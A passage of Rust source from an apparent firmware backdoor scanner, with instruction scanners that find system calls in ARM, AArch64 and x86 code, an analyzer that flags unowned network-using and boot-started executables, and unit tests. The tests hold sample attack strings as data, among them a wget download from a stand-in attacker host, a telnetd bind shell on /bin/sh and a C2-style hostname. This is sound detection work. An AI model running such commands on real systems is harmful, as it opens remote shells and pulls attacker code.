            0x17 if hw & 0xfe00 == 0xbc00 => forget_list(&mut reg, hw, 8), // pop
            0x16 | 0x17 => {
                // sub/add sp, push, cbz, extend, rev, it, nop: sxtb/uxtb/rev write rd
                if hw & 0xf600 == 0xb200 {
                    reg.set(lo, None);
                }
            }
            0x19 => forget_list(&mut reg, hw, 8), // ldmia
            0x18 | 0x1a..=0x1c => {}              // stmia, conditional branch, svc, b
            _ => reg.set(lo, None),               // data processing (0x40xx) and the rest
        }
    }
}

/// AArch64 registers a call may overwrite: x0-x18, lr.
const AARCH64_CALLER_SAVED: &[usize] = &[
    0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 30,
];

/// AArch64: track x0-x30 through `movz`, `movk`, `mov xd, xm` (`orr xd, xzr, xm`); `svc #0`
/// reports x8 with x0-x2 and leaves its result in x0.
fn scan_aarch64(code: &[u8], seg: &Segment, found: &mut Found) {
    let mut reg = Regs::<32>::new();
    for &(r, v) in seg.seed {
        reg.set(r, Some(v));
    }
    for (i, c) in code.chunks_exact(4).enumerate() {
        let w = seg.ins(c);
        let rd = (w & 31) as usize;
        if w == 0xd400_0001 {
            let idx = found(
                reg.k(8),
                seg.vaddr.wrapping_add(4 * i as u64),
                reg.args([0, 1, 2]),
            );
            reg.result(0, idx);
        } else if w & 0xffff_fc1f == 0xd63f_0000
            && seg.imports.is_some()
            && reg
                .k(((w >> 5) & 31) as usize)
                .is_some_and(|v| (IMPORT_MARK..IMPORT_MARK + IMPORT_COUNT).contains(&v))
        {
            // blr xn with xn loaded from an import's GOT slot (`-fno-plt`: adrp; ldr; blr)
            let nr = reg.k(((w >> 5) & 31) as usize).unwrap_or_default();
            let va = seg.vaddr.wrapping_add(4 * i as u64);
            import_call(&mut reg, found, nr, va, AARCH64_CALLER_SAVED, 0);
        } else if w & 0x9f00_0000 == 0x9000_0000 {
            // adrp xd, page: the page address (kept when it fits the tracker's 32 bits)
            let va = seg.vaddr.wrapping_add(4 * i as u64);
            let imm = ((w >> 29) & 3) | ((w >> 5) & 0x7_ffff) << 2;
            let page = ((imm << 11) as i32 >> 11) as i64 as u64;
            let v = (va & !0xfff).wrapping_add(page << 12);
            reg.set(rd, u32::try_from(v).ok());
        } else if w & 0xff80_0000 == 0x9100_0000 {
            // add xd, xn, #imm (adrp + add: an address); sp as xd or xn is not tracked
            let rn = ((w >> 5) & 31) as usize;
            let imm = (w >> 10) & 0xfff;
            let imm = if w & 0x0040_0000 != 0 { imm << 12 } else { imm };
            let v = if rn == 31 {
                None
            } else {
                reg.k(rn).map(|v| v.wrapping_add(imm))
            };
            if rd < 31 {
                reg.set(rd, v);
            }
        } else if w & 0xffc0_0000 == 0xf940_0000 && seg.imports.is_some() {
            // ldr xt, [xn, #imm]: from a GOT slot the import's address (`-fno-plt`)
            let rn = ((w >> 5) & 31) as usize;
            let slot = reg
                .k(rn)
                .filter(|_| rn != 31)
                .map(|v| u64::from(v).wrapping_add(u64::from((w >> 10) & 0xfff) * 8));
            reg.set(rd, slot.and_then(|s| seg.import(s)));
        } else if w & 0xfc00_0000 == 0x9400_0000 || w & 0xffff_fc1f == 0xd63f_0000 {
            // bl / blr
            if w & 0xfc00_0000 == 0x9400_0000 {
                let va = seg.vaddr.wrapping_add(4 * i as u64);
                let offset = (((w << 6) as i32 >> 4) as i64) as u64;
                let args = [reg.k(0), reg.k(1), reg.k(2), reg.k(3)];
                let target = va.wrapping_add(offset);
                if let Some(nr) = seg.import(target) {
                    import_call(&mut reg, found, nr, va, AARCH64_CALLER_SAVED, 0);
                    continue;
                }
                seg.call(target, va, args, false);
            }
            reg.call(AARCH64_CALLER_SAVED);
        } else if w & 0x7f80_0000 == 0x5280_0000 {
            // movz (32/64)
            let hw = (w >> 21) & 3;
            let imm = (w >> 5) & 0xffff;
            reg.set(rd, if hw < 2 { Some(imm << (16 * hw)) } else { None });
        } else if w & 0x7f80_0000 == 0x7280_0000 {
            // movk
            let hw = (w >> 21) & 3;
            let imm = (w >> 5) & 0xffff;
            let v = match hw {
                0 => reg.k(rd).map(|v| (v & 0xffff_0000) | imm),
                1 => reg.k(rd).map(|v| (v & 0xffff) | (imm << 16)),
                _ => reg.k(rd),
            };
            reg.set(rd, v);
        } else if w & 0xffff_fc00 == 0x9340_7c00 {
            // sxtw xd, wn: the sign-extended 32-bit result (a descriptor)
            reg.copy(rd, ((w >> 5) & 31) as usize);
        } else if w & 0x7fe0_ffe0 == 0x2a00_03e0 {
            // mov rd, rm (orr rd, zr, rm)
            let rm = ((w >> 16) & 31) as usize;
            if rm == 31 {
                reg.set(rd, Some(0));
            } else {
                reg.copy(rd, rm);
            }
        } else if rd < 31 {
            // anything else that may write rd: forget it (stores and branches do not
            // write rd but forgetting is only conservative)
            let is_store = w & 0x0a40_0000 == 0x0800_0000;
            let is_branch = w & 0x1c00_0000 == 0x1400_0000;
            if !is_store && !is_branch {
                reg.set(rd, None);
            }
        }
    }
}

/// x86-64 registers a call may overwrite: rax, rcx, rdx, rsi, rdi, r8-r11.
const X86_64_CALLER_SAVED: &[usize] = &[0, 1, 2, 6, 7, 8, 9, 10, 11];

/// A call to import `nr` (an [`IMPORT_MARK`] number) at `site`: reported like a trap with
/// the first three argument registers, the caller-saved registers forgotten, its result in
/// `ret`.
fn import_call<const N: usize>(
    reg: &mut Regs<N>,
    found: &mut Found,
    nr: u32,
    site: u64,
    clobbered: &[usize],
    ret: usize,
) {
    let idx = found(Some(nr), site, reg.args([0, 1, 2]));
    reg.clobber(clobbered);
    reg.result(ret, idx);
}

/// An x86 system call convention: trap bytes and argument registers (the number and the
/// result are in eax/rax).
struct X86Abi {
    trap: [u8; 2],
    args: [usize; 3],
}
/// x86-64 `syscall`: number in rax, arguments rdi, rsi, rdx.
const X86_64_ABI: &X86Abi = &X86Abi {
    trap: [0x0f, 0x05],
    args: [7, 6, 2],
};
/// i386 `int 0x80`: number in eax, arguments ebx, ecx, edx.
const I386_ABI: &X86Abi = &X86Abi {
    trap: [0xcd, 0x80],
    args: [3, 1, 2],
};

/// x86 opcodes with a ModRM byte whose memory forms the scanner steps over whole: mov
/// (88, 89, 8a, 8b), lea (8d), movsxd (63), add/sub/cmp/xor/test with memory (01, 03, 29,
/// 2b, 31, 33, 39, 3b, 85).
const X86_MODRM_OPS: &[u8] = &[
    0x88, 0x89, 0x8a, 0x8b, 0x8d, 0x63, 0x01, 0x03, 0x29, 0x2b, 0x31, 0x33, 0x39, 0x3b, 0x85,
];

/// Bytes of a ModRM byte with its SIB and displacement (32/64-bit addressing).
fn x86_modrm_len(m: u8, sib: Option<u8>) -> usize {
    let (md, rm) = (m >> 6, m & 7);
    let sib_len = usize::from(md != 3 && rm == 4);
    let disp = match md {
        0 if rm == 5 => 4,
        0 if rm == 4 && sib.is_some_and(|s| s & 7 == 5) => 4,
        1 => 1,
        2 => 4,
        _ => 0,
    };
    1 + sib_len + disp
}

/// x86 (both modes): `mov eax, imm32` (`b8 imm32`) followed within 24 bytes by the trap
/// (`0f 05` syscall or `cd 80` int 0x80).
fn scan_x86(code: &[u8], seg: &Segment, abi: &X86Abi, found: &mut Found) {
    // A linear register-constant tracker over the 16 general registers, read byte by byte
    // (x86 has no instruction alignment; a misread byte run only matters if it happens to
    // form one of these forms). Forms followed, as compilers emit them at -O2/-Os:
    //   push imm8; pop rax            6a NN 58
    //   mov r32, imm32                (41) b8+r imm32
    //   mov r64, simm32               48/49 c7 c0+r imm32
    //   mov r/r (32 or 64 bit)        (40-4f) 89 /r or 8b /r, mod 11
    //   movsxd r64, r32               (48-4f) 63 /r, mod 11
    //   lea r, [..] and loads         (40-4f) 8d/8b/63 /r (forget r; memory forms of
    //                                 these and of the common ALU ops are stepped over whole)
    //   xor r, r                      (40-4f) 31 /r, mod 11, same register
    // Calls are not recognised (an e8 byte is as often a displacement as a call opcode in a
    // byte-wise scan), so a trap result in a caller-saved register survives a call here.
    // At the trap the value of eax/rax is the system call number; the trap leaves its
    // result there.
    let mut regs = Regs::<16>::new();
    for &(r, v) in seg.seed {
        regs.set(r, Some(v));
    }
    // i386 (cdecl, arguments on the stack): the outgoing argument area as pushes and
    // `sub/add esp` leave it ([esp] first), for the call sites; and for a routine decoded
    // from its entry, where esp and ebp point relative to the entry's esp, so that
    // `mov r, [ebp+8]` / `mov r, [esp+N]` read argument `i` (at entry `[esp+4+4i]`)
    let i386 = abi.trap == [0xcd, 0x80];
    let mut stack: Vec<Val> = Vec::new();
    let konst = |k: Option<u32>| Val { k, from: None };
    let mut esp_rel: i64 = 0;
    let mut ebp_rel: Option<i64> = None;
    let mut i = 0;
    while i + 2 <= code.len() {
        let b = code[i];
        if i386 {
            let imm32 = |o: usize| {
                code.get(o..o + 4)
                    .map(|w| u32::from_le_bytes([w[0], w[1], w[2], w[3]]))
            };
            let next = code.get(i + 1).copied();
            let step = match b {
                // push imm8 / imm32 / r32, pop r32
                0x6a if next.is_some() && code.get(i + 2) != Some(&0x58) => {
                    stack.insert(0, konst(next.map(|v| v as i8 as i32 as u32)));
                    esp_rel -= 4;
                    2
                }
                0x68 => match imm32(i + 1) {
                    Some(v) => {
                        stack.insert(0, konst(Some(v)));
                        esp_rel -= 4;
                        5
                    }
                    None => 0,
                },
                0x50..=0x57 => {
                    stack.insert(0, regs.val(usize::from(b - 0x50)));
                    esp_rel -= 4;
                    1
                }
                0x58..=0x5f => {
                    if !stack.is_empty() {
                        stack.remove(0);
                    }
                    regs.set(usize::from(b - 0x58), None);
                    esp_rel += 4;
                    1
                }
                // add/sub esp, imm8
                0x83 if matches!(next, Some(0xc4 | 0xec)) => match code.get(i + 2) {
                    Some(&n) => {
                        let n = i64::from(n as i8);
                        if next == Some(0xc4) {
                            stack.drain(..(n.max(0) as usize / 4).min(stack.len()));
                            esp_rel += n;
                        } else {
                            for _ in 0..(n.max(0) / 4).min(16) {
                                stack.insert(0, Val::default());
                            }
                            esp_rel -= n;
                        }
                        3
                    }
                    None => 0,
                },
                // mov [esp], imm32 / mov [esp+d8], imm32
                0xc7 if next == Some(0x04) && code.get(i + 2) == Some(&0x24) => {
                    match imm32(i + 3) {
                        Some(v) => {
                            if stack.is_empty() {
                                stack.push(Val::default());
                            }
                            stack[0] = konst(Some(v));
                            7
                        }
                        None => 0,
                    }
                }
                0xc7 if next == Some(0x44) && code.get(i + 2) == Some(&0x24) => {
                    match (code.get(i + 3), imm32(i + 4)) {
                        (Some(&d), Some(v)) => {
                            let slot = usize::from(d) / 4;
                            if d % 4 == 0 && slot < 16 {
                                if stack.len() <= slot {
                                    stack.resize(slot + 1, Val::default());
                                }
                                stack[slot] = konst(Some(v));
                            }
                            8
                        }
                        _ => 0,
                    }
                }
                // mov [esp], r32 / mov [esp+d8], r32: an outgoing argument from a register
                0x89 if next.is_some_and(|m| m & 0xc7 == 0x04)
                    && code.get(i + 2) == Some(&0x24) =>
                {
                    let r = usize::from((next.unwrap_or(0) >> 3) & 7);
                    if stack.is_empty() {
                        stack.push(Val::default());
                    }
                    stack[0] = regs.val(r);
                    3
                }
                0x89 if next.is_some_and(|m| m & 0xc7 == 0x44)
                    && code.get(i + 2) == Some(&0x24) =>
                {
                    let r = usize::from((next.unwrap_or(0) >> 3) & 7);
                    match code.get(i + 3) {
                        Some(&d) => {
                            let slot = usize::from(d) / 4;
                            if d % 4 == 0 && slot < 16 {
                                if stack.len() <= slot {
                                    stack.resize(slot + 1, Val::default());
                                }
                                stack[slot] = regs.val(r);
                            }
                            4
                        }
                        None => 0,
                    }
                }
                // dynamic executables and recognised library functions: `call rel32` to an
                // import's PLT stub (or a recognised entry), `call *addr` through its GOT
                // slot; the arguments are the outgoing stack slots
                0xe8 | 0xff
                    if seg.imports.is_some()
                        && (b == 0xe8 || next == Some(0x15))
                        && imm32(i + 1 + usize::from(b == 0xff)).is_some_and(|v| {
                            let site = seg.vaddr.wrapping_add(i as u64);
                            let t = if b == 0xe8 {
                                site.wrapping_add(5).wrapping_add(v as i32 as i64 as u64)
                            } else {
                                u64::from(v)
                            };
                            seg.import(t).is_some()
                        }) =>
                {
                    let site = seg.vaddr.wrapping_add(i as u64);
                    let v = imm32(i + 1 + usize::from(b == 0xff)).unwrap_or(0);
                    let t = if b == 0xe8 {
                        site.wrapping_add(5).wrapping_add(v as i32 as i64 as u64)
                    } else {
                        u64::from(v)
                    };
                    let a = |k: usize| stack.get(k).copied().unwrap_or_default();
                    let idx = seg
                        .import(t)
                        .and_then(|nr| found(Some(nr), site, [a(0), a(1), a(2)]));
                    regs.clobber(&[0, 1, 2]);
                    regs.result(0, idx);
                    if b == 0xe8 {
                        5
                    } else {
                        6
                    }
                }
                // call rel32 into this code range (a misread e8 byte rarely lands there)
                0xe8 => match imm32(i + 1) {
                    Some(rel) => {
                        let site = seg.vaddr.wrapping_add(i as u64);
                        let target = site.wrapping_add(5).wrapping_add(rel as i32 as i64 as u64);
                        if target.wrapping_sub(seg.vaddr) < code.len() as u64 {
                            let a = |k: usize| stack.get(k).and_then(|v| v.k);
                            seg.call(target, site, [a(0), a(1), a(2), a(3)], false);
                            regs.call(&[0, 1, 2]);
                            5
                        } else {
                            0
                        }
                    }
                    None => 0,
                },
                0xc3 | 0xc9 => {
                    stack.clear();
                    1
                }
                _ => 0,
            };
            stack.truncate(32);
            if step > 0 {
                i += step;
                continue;
            }
            // mov ebp, esp
            if (b == 0x89 && next == Some(0xe5)) || (b == 0x8b && next == Some(0xec)) {
                ebp_rel = Some(esp_rel);
            }
            // routine pass: mov r32, [ebp+d8] / [esp+d8] of an argument
            if seg.stack_marks && b == 0x8b {
                if let Some(m) = next {
                    let at = match (m >> 6, m & 7, code.get(i + 2), code.get(i + 3)) {
                        (1, 5, Some(&d), _) => ebp_rel.map(|e| e + i64::from(d as i8)),
                        (1, 4, Some(0x24), Some(&d)) => Some(esp_rel + i64::from(d as i8)),
                        _ => None,
                    };
                    if let Some(k) = at.filter(|x| (4..=16).contains(x) && x % 4 == 0) {
                        let r = usize::from((m >> 3) & 7);
                        regs.set(r, Some(ROUTINE_MARK + (k as u32 - 4) / 4));
                        i += if m & 7 == 4 { 4 } else { 3 };
                        continue;
                    }
                }
            }
        }
        if seg.imports.is_some() && abi.trap == [0x0f, 0x05] {
            // dynamic executables: `call rel32` to a PLT stub, `call *N(%rip)` through a
            // GOT slot (-fno-plt); a call that lands exactly on an import's stub is taken
            // as a real call (a misread byte run rarely does)
            let site = seg.vaddr.wrapping_add(i as u64);
            let rel = |o: usize| {
                code.get(o..o + 4)
                    .map(|w| i32::from_le_bytes([w[0], w[1], w[2], w[3]]) as i64 as u64)
            };
            let call = match (b, code.get(i + 1)) {
                (0xe8, _) => rel(i + 1).map(|r| (site.wrapping_add(5).wrapping_add(r), 5)),
                (0xff, Some(0x15)) => rel(i + 2).map(|r| (site.wrapping_add(6).wrapping_add(r), 6)),
                _ => None,
            };
            if let Some((nr, len)) = call.and_then(|(t, len)| Some((seg.import(t)?, len))) {
                let idx = found(Some(nr), site, regs.args(abi.args));
                regs.clobber(X86_64_CALLER_SAVED);
                regs.result(0, idx);
                i += len;
                continue;
            }
        }
        if b == 0xe8 && abi.trap == [0x0f, 0x05] {
            // call rel32 (recorded for the routine pass only; the state is not changed
            // because a misread e8 byte is common)
            if let Some(w) = code.get(i + 1..i + 5) {
                let rel = i32::from_le_bytes([w[0], w[1], w[2], w[3]]) as i64 as u64;
                let site = seg.vaddr.wrapping_add(i as u64);
                let args = [regs.k(7), regs.k(6), regs.k(2), regs.k(1)];
                seg.call(site.wrapping_add(5).wrapping_add(rel), site, args, false);
            }
        }
        if code[i..].starts_with(&abi.trap) {
            // a number, or the routine pass's marker
            let nr = regs
                .k(0)
                .filter(|v| *v < 1024 || (ROUTINE_MARK..ROUTINE_MARK + 4).contains(v));
            let idx = found(nr, seg.vaddr.wrapping_add(i as u64), regs.args(abi.args));
            regs.result(0, idx);
            i += 2;
            continue;
        }
        let imm32 = |o: usize| -> Option<u32> {
            code.get(o..o + 4)
                .map(|w| u32::from_le_bytes([w[0], w[1], w[2], w[3]]))
        };
        if b == 0x6a && code.get(i + 2) == Some(&0x58) {
            regs.set(0, Some(u32::from(code[i + 1])));
            i += 3;
            continue;
        }
        if (0xb8..=0xbf).contains(&b) {
            if let Some(v) = imm32(i + 1) {
                regs.set(usize::from(b - 0xb8), Some(v));
                i += 5;
                continue;
            }
        }
        let rex = (0x40..=0x4f).contains(&b).then_some(b);
        let o = i + usize::from(rex.is_some());
        let r_ext = rex.map_or(0, |r| usize::from((r >> 2) & 1) * 8);
        let b_ext = rex.map_or(0, |r| usize::from(r & 1) * 8);
        let (Some(&op), Some(&m)) = (code.get(o), code.get(o + 1)) else {
            i += 1;
            continue;
        };
        if rex.is_some() && (0xb8..=0xbf).contains(&op) {
            if let Some(v) = imm32(o + 1) {
                // REX.W: movabs r64, imm64 (a value above 32 bits is no syscall number)
                let wide = rex.is_some_and(|r| r & 8 != 0);
                regs.set(usize::from(op - 0xb8) + b_ext, (!wide).then_some(v));
                i = o + if wide { 9 } else { 5 };
                continue;
            }
        }
        if m < 0xc0 && matches!(op, 0xc6 | 0xc7 | 0x80 | 0x81 | 0x83) {
            // a store or ALU operation of an immediate to memory (`movq $0x49080002,
            // 0x10(%rsp)`): skipped whole, immediate included (its bytes would otherwise be
            // read as instructions: a trailing 0x49 is a REX prefix)
            // (an operand-size prefix 0x66 before it makes the immediate 16 bits)
            let word = i > 0 && code.get(i - 1) == Some(&0x66);
            let imm = match op {
                0xc7 | 0x81 if word => 2,
                0xc7 | 0x81 => 4,
                _ => 1,
            };
            i = o + 1 + x86_modrm_len(m, code.get(o + 2).copied()) + imm;
            continue;
        }
        if m < 0xc0 && X86_MODRM_OPS.contains(&op) {
            // a memory operand: skip the whole instruction (its displacement bytes would
            // otherwise be read as instructions: `lea -0x48(%rsp),%r12` ends in b8, which
            // looks like `mov eax, imm32` and swallows the next real instruction)
            let reg = usize::from((m >> 3) & 7) + r_ext;
            if matches!(op, 0x8b | 0x8d | 0x63 | 0x03 | 0x2b | 0x8a) {
                // loads, lea and arithmetic into the register: unknown now
                regs.set(reg, None);
            }
            if op == 0x8d {
                // lea r, [rip + disp32] (x86-64) and lea r, [ebx + disp32] off the GOT
                // pointer (i386 position-independent code): an address, such as a string's
                let disp = code
                    .get(o + 2..o + 6)
                    .map(|d| i32::from_le_bytes([d[0], d[1], d[2], d[3]]) as i64 as u64);
                let addr = match (i386, m & 0xc7) {
                    (false, 0x05) => {
                        disp.map(|d| seg.vaddr.wrapping_add(o as u64 + 6).wrapping_add(d))
                    }
                    (true, 0x83) => seg
                        .imports
                        .and_then(|t| t.got)
                        .zip(disp)
                        .map(|(g, d)| g.wrapping_add(d)),
                    _ => None,
                };
                if let Some(a) = addr.and_then(|a| u32::try_from(a & 0xffff_ffff_ffff).ok()) {
                    regs.set(reg, Some(a));
                }
            }
            i = o + 1 + x86_modrm_len(m, code.get(o + 2).copied());
            continue;
        }
        if m >= 0xc0 {
            let reg = usize::from((m >> 3) & 7) + r_ext;
            let rm = usize::from(m & 7) + b_ext;
            match op {
                0xc7 if (m >> 3) & 7 == 0 => {
                    if let Some(v) = imm32(o + 2) {
                        regs.set(rm, Some(v));
                        i = o + 6;
                        continue;
                    }
                }
                0x89 => {
                    regs.copy(rm, reg);
                    i = o + 2;
                    continue;
                }
                // mov r, r/m and movsxd r64, r/m32 (a descriptor widened for a call)
                0x8b | 0x63 => {
                    regs.copy(reg, rm);
                    i = o + 2;
                    continue;
                }
                0x31 if reg == rm => {
                    regs.set(rm, Some(0));
                    i = o + 2;
                    continue;
                }
                _ => {}
            }
        }
        i += 1;
    }
}

// ---------------------------------------------------------------------------------------
// the analyzer

/// The behaviour analyzer: profiles every executable once, and judges it together with the
/// boot model (started at boot?), provenance (owned by a package?) and the web UI.
pub struct Behaviour {
    web: crate::web::WebChecks,
}

impl Default for Behaviour {
    fn default() -> Self {
        Behaviour::new()
    }
}

impl Behaviour {
    pub fn new() -> Behaviour {
        Behaviour {
            web: crate::web::WebChecks::new(),
        }
    }

    fn analyse(&self, cx: &crate::Context, shared: &crate::Shared) -> crate::Output {
        use rayon::prelude::*;
        let tree = cx.tree;
        let model = &shared.boot;
        let started = &shared.started;
        let owners = crate::provenance::ownership(tree);
        let profiles: Vec<(usize, Profile, Option<Finding>)> = tree
            .entries
            .par_iter()
            .enumerate()
            .filter(|(_, e)| e.is_file() && netvet_unpack::classify::is_elf(&e.data))
            .filter_map(|(i, e)| {
                let early = shared
                    .prework
                    .and_then(|w| w.take::<ProfiledFile>("behaviour", &e.path, &e.data));
                let (p, legacy) = early.unwrap_or_else(|| {
                    let r = profile_file(&e.path, &e.data);
                    netvet_unpack::spool::release(&e.data);
                    r
                })?;
                Some((i, p, legacy))
            })
            .collect();

        let mut findings = Vec::new();
        let mut behaviour_of: BTreeMap<&str, &'static str> = BTreeMap::new();
        let mut counts = BTreeMap::<&str, u64>::new();
        let mut busyboxes = BTreeSet::new();
        for (i, p, legacy) in &profiles {
            let e = &tree.entries[*i];
            *counts.entry("executables").or_default() += 1;
            match p.linkage {
                Linkage::Static => *counts.entry("static").or_default() += 1,
                Linkage::Go => *counts.entry("go").or_default() += 1,
                Linkage::Dynamic => {}
            }
            if let Some(bb) = &p.busybox {
                busyboxes.insert(format!("{} ({} applets)", bb.version, bb.applets));
            }
            let own = owners.get(e.root()).filter(|o| o.known());
            let unowned =
                own.is_some_and(|o| crate::provenance::owned(o, e.inner_path()).is_none());
            if unowned {
                *counts.entry("unowned_executables").or_default() += 1;
            }
            let boot = shared.started_by(&e.path).map(String::as_str);
            let verdicts = judge(p);
            let mut has_backdoor = false;
            for v in &verdicts {
                let mut f = finding(&e.path, v, boot);
                if v.kind == kinds::BINARY_PACKED {
                    packed_outcome(tree, e, &mut f);
                }
                if v.kind.starts_with("backdoor.") {
                    has_backdoor = true;
                    behaviour_of.insert(&e.path, v.kind);
                    if unowned {
                        f.evidence
                            .push_str("; no installed package lists this file");
                    }
                }
                findings.push(f);
            }
            if !has_backdoor {
                if let Some(f) = legacy {
                    has_backdoor = true;
                    findings.push(f.clone());
                }
            }
            // provenance, weighted by network capability
            if !has_backdoor && unowned && p.busybox.is_none() && p.network() {
                let exec = p.has(Cap::Exec);
                let mut severity = if p.listens() && exec {
                    Severity::Medium
                } else {
                    Severity::Low
                };
                if boot.is_some() && severity == Severity::Low {
                    severity = Severity::Medium;
                }
                let managers = own
                    .map(|o| o.managers.iter().copied().collect::<Vec<_>>().join("/"))
                    .unwrap_or_default();
                findings.push(
                    Finding::new(
                        kinds::BACKDOOR_SUSPICIOUS,
                        severity,
                        format!(
                            "{} is owned by no installed package and uses the network",
                            e.file_name()
                        ),
                        Some(e.path.clone()),
                        format!(
                            "not in any of the {} {managers} package file lists; network: {}{}{}",
                            own.map_or(0, |o| o.lists),
                            p.ev(&[Cap::Listen, Cap::Accept, Cap::Connect, Cap::RawCapture]),
                            if exec {
                                format!("; executes: {}", p.ev(&[Cap::Exec]))
                            } else {
                                String::new()
                            },
                            boot.map(|b| format!("; started at boot: {b}"))
                                .unwrap_or_default()
                        ),
                    )
                    .with_key("unowned-network"),
                );
            }
        }

        // boot paths
        findings.extend(crate::boot::check(model));
        let profile_of: BTreeMap<&str, (&Profile, usize)> = profiles
            .iter()
            .map(|(i, p, _)| (tree.entries[*i].path.as_str(), (p, *i)))
            .collect();
        for (prog, where_) in started {
            let Some((p, i)) = profile_of.get(prog.as_str()) else {
                continue;
            };
            let e = &tree.entries[*i];
            let file = where_.split(" line ").next().unwrap_or(where_).to_string();
            if let Some(kind) = behaviour_of.get(prog.as_str()) {
                findings.push(
                    Finding::new(
                        kinds::BOOT_SUSPICIOUS,
                        Severity::High,
                        format!("Boot path starts {} ({kind})", e.file_name()),
                        Some(file),
                        format!("{where_}: starts {prog}, reported as {kind}"),
                    )
                    .with_key(&format!("starts:{prog}")),
                );
                continue;
            }
            let own = owners.get(e.root()).filter(|o| o.known());
            let unowned =
                own.is_some_and(|o| crate::provenance::owned(o, e.inner_path()).is_none());
            if unowned && p.network() && p.busybox.is_none() {
                findings.push(
                    Finding::new(
                        kinds::BOOT_SUSPICIOUS,
                        Severity::Medium,
                        format!("Boot path starts {}, which no package owns and which uses the network", e.file_name()),
                        Some(file),
                        format!(
                            "{where_}: starts {prog}; not in any of the {} package file lists; network: {}",
                            own.map_or(0, |o| o.lists),
                            p.ev(&[Cap::Listen, Cap::Connect])
                        ),
                    )
                    .with_key(&format!("starts-unowned:{prog}")),
                );
            }
        }
        // indicators in boot and scheduled lines
        let mut seen = BTreeSet::new();
        for b in model.lines() {
            let ind = indicators(b.line.as_bytes());
            if !ind.is_empty() && seen.insert((b.file.clone(), b.line_no)) {
                findings.push(
                    Finding::new(
                        kinds::INDICATOR_NETWORK,
                        Severity::Info,
                        format!("Boot path names a network address ({})", ind.join(", ")),
                        Some(b.file.clone()),
                        format!("{} line {}: {} ({})", b.file, b.line_no, b.line, b.reason),
                    )
                    .with_key(&format!("boot-indicator:{}", b.line_no)),
                );
            }
        }
        // web UI
        findings.extend(crate::web::check_tree(tree, &self.web));

        let package_lists: usize = owners.values().map(|o| o.lists).sum();
        crate::Output {
            findings,
            summaries: vec![(
                "behaviour".into(),
                serde_json::json!({
                    "executables": counts.get("executables").copied().unwrap_or(0),
                    "static": counts.get("static").copied().unwrap_or(0),
                    "go": counts.get("go").copied().unwrap_or(0),
                    "busybox_builds": busyboxes.into_iter().collect::<Vec<_>>(),
                    "package_lists": package_lists,
                    "unowned_executables": counts.get("unowned_executables").copied().unwrap_or(0),
                    "started_at_boot": started.len(),
                }),
            )],
        }
    }
}

impl crate::Analyzer for Behaviour {
    fn name(&self) -> &'static str {
        "behaviour"
    }

    fn run(&self, cx: &crate::Context) -> crate::Output {
        self.analyse(cx, &crate::Shared::build(cx.tree))
    }

    fn early(&self, path: &str, data: &[u8]) -> Option<crate::prework::Early> {
        Some(Box::new(profile_file(path, data)))
    }

    fn run_shared(&self, cx: &crate::Context, shared: &crate::Shared) -> crate::Output {
        self.analyse(cx, shared)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ipv4_filter() {
        assert_eq!(ipv4s("connect to 203.0.113.7 now"), vec!["203.0.113.7"]);
        assert!(ipv4s("192.168.1.1").is_empty());
        assert!(ipv4s("255.255.255.0").is_empty());
        assert!(ipv4s("kernel 2.6.36.4").is_empty());
        assert!(ipv4s("v1.2.3.4.5").is_empty());
        assert_eq!(ipv4s("dns 8.8.8.8"), vec!["8.8.8.8"]);
    }

    #[test]
    fn url_filter() {
        assert_eq!(
            urls("wget http://evil.example.net/x.sh -O /tmp/x"),
            vec!["http://evil.example.net/x.sh"]
        );
        assert!(urls("see http://www.busybox.net/ for help").is_empty());
        assert!(urls("http://192.168.1.1/login").is_empty());
        assert!(urls("http://%s/%s").is_empty());
    }

    #[test]
    fn hostname_filter() {
        assert_eq!(
            hostname("update.c2.example.net").as_deref(),
            Some("update.c2.example.net")
        );
        assert_eq!(hostname("www.openssl.org"), None);
        assert_eq!(hostname("libc.so.6"), None);
        assert_eq!(hostname("Config.Net"), None);
    }

    #[test]
    fn busybox_identity() {
        let data = b"xxBusyBox v1.22.1 (2014-01-01)\0\0[\0[[\0ash\0nc\0telnetd\0zcat\0\0";
        let bb = busybox(data).unwrap();
        assert_eq!(bb.version, "1.22.1");
        assert_eq!(bb.applets, 6);
        assert_eq!(bb.network_applets, vec!["nc", "telnetd"]);
    }

    /// The dot-driven string finder against splitting at every non-printable byte.
    #[test]
    fn dotted_strings_match_the_split_oracle() {
        let mut x: u32 = 0x9e37_79b9;
        let mut data: Vec<u8> = (0..200_000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                // mostly printable with dots, some NULs and high bytes
                match x % 16 {
                    0 => 0,
                    1 => b'.',
                    2 => 0xc3,
                    _ => b'a' + (x % 26) as u8,
                }
            })
            .collect();
        // a long run (over 4096 bytes) with a dot is not a string
        data.extend(std::iter::repeat_n(b'x', 5000));
        data.extend_from_slice(b".y\0c2.example.net\0");
        let oracle: Vec<&str> = data
            .split(|b| !(0x20..0x7f).contains(b))
            .filter(|s| (7..=4096).contains(&s.len()) && s.contains(&b'.'))
            .filter_map(|s| std::str::from_utf8(s).ok())
            .collect();
        let got: Vec<&str> = dotted_strings(&data, 7).collect();
        assert!(oracle.len() > 1000, "{}", oracle.len());
        assert_eq!(got, oracle);
        assert_eq!(got.last(), Some(&"c2.example.net"));
        assert_eq!(
            indicators(b"\0\0c2.example.net\0x.y\0"),
            vec!["c2.example.net"]
        );
    }

    /// The one-pass string set gives the offsets separate searches give.
    #[test]
    fn strings_pass_matches_memmem() {
        let data = b"\0/bin/sh\0-i\0 telnetd -l /bin/sh\0Password: /etc/passwd /bin/sh\0";
        let s = Strings::find(data);
        assert_eq!(s.all(b"/bin/sh\0"), &[1, 24, 54]);
        assert_eq!(s.first(b"telnetd -l /bin/sh"), Some(13));
        assert_eq!(s.first(b"Password:"), Some(32));
        assert_eq!(s.first(b"Password: "), Some(32));
        assert!(s.has(b"/etc/passwd"));
        assert!(!s.has(b"/etc/shadow"));
        for p in string_patterns() {
            assert_eq!(
                s.first(p),
                memmem::find(data, p),
                "{}",
                String::from_utf8_lossy(p)
            );
        }
        assert_eq!(
            interactive_shell(data, &s).as_deref(),
            Some("\"-i\" at offset 0x9 beside \"/bin/sh\" at offset 0x1")
        );
    }
}
